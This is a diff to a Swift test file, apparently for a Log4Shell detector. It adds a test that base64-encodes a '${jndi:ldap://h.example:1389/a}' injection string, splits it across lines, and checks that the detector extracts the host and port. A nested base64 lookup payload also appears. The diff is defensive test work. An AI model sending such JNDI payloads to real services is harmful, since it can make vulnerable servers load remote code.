@@ -205,6 +205,18 @@ private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedStr
     #expect(found?.host == "h.example")
   }
 
+  /// `base64` breaks its lines; a payload goes on in the next.
+  @Test(arguments: [0, 60, 101, 140]) func readsBase64InLines(before: Int) {
+    let digits = Array(
+      base64(String(repeating: "A", count: before) + "${jndi:ldap://h.example:1389/a} and what follows it"))
+    for end in ["\n", "\r\n"] {
+      let text = stride(from: 0, to: digits.count, by: 76)
+        .map { String(digits[$0..<min($0 + 76, digits.count)]) }.joined(separator: end)
+      #expect(log4shell(text)?.host == "h.example")
+      #expect(log4shell(text)?.port == 1389)
+    }
+  }
+
   @Test func readsTheBase64Lookup() {
     #expect(log4shell("${${base64:\(base64("${jndi:ldap://h.example/a}"))}}")?.host == "h.example")
   }
